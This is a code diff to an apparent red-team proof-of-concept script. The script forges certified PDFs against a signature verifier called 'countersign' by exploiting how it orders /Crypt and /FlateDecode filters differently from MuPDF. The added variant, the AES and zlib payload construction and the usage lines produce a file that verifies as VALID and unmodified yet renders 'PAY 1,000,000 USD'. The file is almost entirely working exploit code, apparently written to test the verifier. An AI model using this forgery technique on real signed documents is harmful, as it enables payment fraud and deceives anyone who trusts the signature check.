@@ -7,15 +7,19 @@
 # in clear) that countersign decrypts to garbage G; the signed revision held IV'||AES(G) (no
 # padding), which countersign also decrypts to G. Same dictionary, same /Length: countersign's
 # diff sees no change, a certified (P1) signature stays VALID; MuPDF shows EVIL.
+# Variant `index1` (5th argument): /Filter [/FlateDecode /Crypt] /DecodeParms [null << /Name
+# /StdCF >>]: countersign decrypts the raw bytes before the whole chain (same function ignores
+# where /Crypt stands), MuPDF inflates first and decrypts after, as the chain says.
 # Needs AES: run with the pyHanko venv (cryptography), e.g. /work/main/.venv/bin/python.
-# Usage: python redteam_enc_crypt_decodeparms_dict.py COUNTERSIGN CLASSIC_PDF PKI_DIR OUTDIR
+# Usage: python redteam_enc_crypt_decodeparms_dict.py COUNTERSIGN CLASSIC_PDF PKI_DIR OUTDIR [index1]
 # Then: COUNTERSIGN verify OUTDIR/forged.pdf --trust PKI_DIR/root-ca.cert.pem --json
 #         -> exit 0, VALID, modifications.level "none", objects []
 #       mutool draw -F txt OUTDIR/signed.pdf 1 -> "Page 1"; OUTDIR/forged.pdf -> + "PAY 1,000,000 USD"
-import hashlib, os, re, subprocess, sys
+import hashlib, os, re, subprocess, sys, zlib
 from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
 
 exe, classic, pki, out = sys.argv[1:5]
+index1 = sys.argv[5:6] == ["index1"]
 PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
 def append_update(data, objs):
     """A classic incremental update redefining `objs` ({num: body})."""
@@ -63,13 +67,20 @@ def cbc(num, iv, body, decrypt):
 N = 31
 evil = b"BT /F1 24 Tf 72 650 Td (PAY 1,000,000 USD) Tj ET %"
 evil += b" " * (-len(evil) % 16)
+if index1:
+    # What MuPDF reads: inflate, then AES (an IV, the text, a padding block).
+    iv0 = os.urandom(16)
+    evil = zlib.compress(iv0 + cbc(N, iv0, evil + bytes([16]) * 16, False))
+    evil += b"\n" * (-len(evil) % 16)
 garbage = cbc(N, evil[:16], evil[16:], True)
 iv = os.urandom(16)
 planted = iv + cbc(N, iv, garbage, False)
 assert len(planted) == len(evil)
 page = re.search(rb"\n(\d+) 0 obj\n(<<[^\n]*?/Type /Page\b[^\n]*)\nendobj", data)
 page_body = re.sub(rb"/Contents (\d+) 0 R", rb"/Contents [\1 0 R %d 0 R]" % N, page.group(2))
-head = b"<< /Length %d /Filter [/Crypt] /DecodeParms << /Name /StdCF >> >>\nstream\n" % len(evil)
+filters = (b"/Filter [/FlateDecode /Crypt] /DecodeParms [null << /Name /StdCF >>]" if index1
+           else b"/Filter [/Crypt] /DecodeParms << /Name /StdCF >>")
+head = b"<< /Length %d %s >>\nstream\n" % (len(evil), filters)
 open(f"{out}/original.pdf", "wb").write(append_update(data, {
     int(page.group(1)): page_body, N: head + planted + b"\nendstream"}))
 # 3. The signer certifies it: no changes permitted.
